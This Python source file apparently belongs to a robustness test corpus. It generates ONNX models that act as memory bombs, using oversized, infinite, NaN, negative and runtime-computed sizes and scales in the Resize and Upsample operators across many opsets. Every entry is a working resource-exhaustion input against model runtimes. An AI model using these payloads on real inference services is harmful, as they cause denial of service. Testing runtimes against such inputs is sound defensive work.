"""Memory bombs of Resize: sizes told in every place and opset where the operator can read them."""

from __future__ import annotations

import functools
from typing import Any

import numpy as np

from hostile.build import BIG, Net, Shelf

ATTACKS = Shelf("resize")
BY_SCALE, BY_SIZE = [1.0, 1.0, 32768.0, 32768.0], [1, 3, BIG, BIG]
NARROW = np.zeros((1, 1, 4096, 1))


def _scaled(scales: list[float], opset: int = 17, roi: bool = False, **attributes: Any) -> bytes:
    net = Net(opset)
    if opset < 11:
        return net.sink(net.op("Resize", net.x, net.const(scales), **attributes))
    area = net.const(np.zeros(0)) if roi else ""
    return net.sink(net.op("Resize", net.x, area, net.const(scales), **attributes))


def _sized(sizes: list[int], opset: int = 17, scales: bool = False, **attributes: Any) -> bytes:
    net = Net(opset)
    empty = net.const(np.zeros(0)) if scales else ""
    return net.sink(net.op("Resize", net.x, empty, empty, net.const(sizes), **attributes))


for _opset in (10, 11, 13, 18, 19, 21):
    ATTACKS.put(f"resize_scales_opset_{_opset}", "size", functools.partial(_scaled, BY_SCALE, _opset, _opset == 11))
for _mode in ("nearest", "linear", "cubic"):
    ATTACKS.put(f"resize_scales_{_mode}", "size|mode", functools.partial(_scaled, BY_SCALE, mode=_mode))
    ATTACKS.put(f"resize_sizes_{_mode}", "size|mode", functools.partial(_sized, BY_SIZE, mode=_mode))
for _name, _scales in (
    ("batch", [1e9, 1, 1, 1]),
    ("one_axis", [1, 1, 1, 1e10]),
    ("infinite", [1, 1, float("inf"), 1]),
    ("not_a_number", [1, 1, float("nan"), 1]),
    ("negative", [1, 1, -1e9, 1]),
    ("zero", [1.0, 1.0, 0.0, 1.0]),
):
    ATTACKS.put(f"resize_scale_{_name}", "size|scale", functools.partial(_scaled, _scales))
ATTACKS.put("resize_scales_beside_roi", "size", functools.partial(_scaled, BY_SCALE, 13, True))
ATTACKS.put("resize_sizes_beside_empty_scales", "size", functools.partial(_sized, BY_SIZE, 13, True))
ATTACKS.put("resize_sizes_axes", "size", functools.partial(_sized, [BIG, BIG], 18, axes=[2, 3]))
ATTACKS.put("resize_sizes_negative_axes", "size", functools.partial(_sized, [BIG, BIG], 18, axes=[-1, -2]))
ATTACKS.put("resize_sizes_overflow", "size", functools.partial(_sized, [2**40, 2**40, 1, 1]))
ATTACKS.put("resize_sizes_negative", "size|negative", functools.partial(_sized, [1, 3, -(2**40), 8]))


def _policy(policy: str, sizes: list[int]) -> bytes:
    net = Net(18)
    plane = net.const(NARROW)
    more = {"axes": [2, 3], "keep_aspect_ratio_policy": policy}
    return net.sink(net.op("Resize", plane, "", "", net.const(sizes), **more))


ATTACKS.put("resize_grows_to_keep_its_aspect", "size", functools.partial(_policy, "not_smaller", [4096, 16384]))
ATTACKS.put("resize_grows_both_ways", "size", functools.partial(_policy, "not_larger", [1 << 24, 1 << 12]))


def _cropped(opset: int, scales: list[float] | None) -> bytes:
    net = Net(opset)
    roi = net.const([0, 0, 0, 0, 1, 1, 16384, 16384], np.float32)
    wires = [roi, net.const(scales)] if scales else [roi, "", net.const(BY_SIZE)]
    return net.sink(net.op("Resize", net.x, *wires, mode="linear", coordinate_transformation_mode="tf_crop_and_resize"))


ATTACKS.put("resize_region_beyond_the_picture_11", "size|mode|roi", functools.partial(_cropped, 11, [1.0] * 4))
ATTACKS.put("resize_region_beyond_the_picture_19", "size|mode|roi", functools.partial(_cropped, 19, [1.0] * 4))
ATTACKS.put("resize_region_with_sizes", "size|mode|roi", functools.partial(_cropped, 13, None))


@ATTACKS.add("size")
def resize_twice_by_hundreds() -> bytes:
    net = Net()
    scales = net.const([1.0, 1.0, 200.0, 200.0])
    return net.sink(net.op("Resize", net.op("Resize", net.x, "", scales), "", scales))


@ATTACKS.add("size")
def resize_chain_by_two() -> bytes:
    net = Net()
    value, scales = net.x, net.const([1.0, 1.0, 2.0, 2.0])
    for _ in range(16):
        value = net.op("Resize", value, "", scales)
    return net.sink(value)


@ATTACKS.add("size")
def resize_scales_made_by_arithmetic() -> bytes:
    net = Net()
    scales = net.op("Pow", net.const([1.0, 1.0, 182.0, 182.0]), net.const(2.0))
    return net.sink(net.op("Resize", net.x, "", scales))


@ATTACKS.add("size")
def resize_sizes_from_the_shape_of_the_input() -> bytes:
    net = Net()
    wanted = net.op("Mul", net.op("Shape", net.x), net.const([1, 1, 16384, 16384]))
    return net.sink(net.op("Resize", net.x, "", "", wanted))


@ATTACKS.add("size|unknown")
def resize_scales_from_the_pixels() -> bytes:
    net = Net()
    scales = net.op(
        "Reshape",
        net.op("Slice", net.op("Flatten", net.x), net.const([0]), net.const([4]), net.const([1])),
        net.const([4]),
    )
    return net.sink(net.op("Resize", net.x, "", scales))


@ATTACKS.add("size")
def resize_sizes_and_scales_disagree() -> bytes:
    net = Net(13)
    return net.sink(net.op("Resize", net.x, "", net.const([1.0] * 4), net.const(BY_SIZE)))


@ATTACKS.add("size|mode|work")
def antialias_filter_as_wide_as_a_million_pixels() -> bytes:
    net = Net(18)
    small = net.op("Resize", net.zeros(1, 1, 1, 1 << 33), "", "", net.const([1, 1, 1, 1]), mode="linear", antialias=1)
    return net.sink(small)


@ATTACKS.add("size|operator")
def upsample_of_opset_7() -> bytes:
    net = Net(7)
    return net.sink(net.op("Upsample", net.x, scales=BY_SCALE))


@ATTACKS.add("size|operator")
def upsample_of_opset_9() -> bytes:
    net = Net(9)
    return net.sink(net.op("Upsample", net.x, net.const(BY_SCALE)))
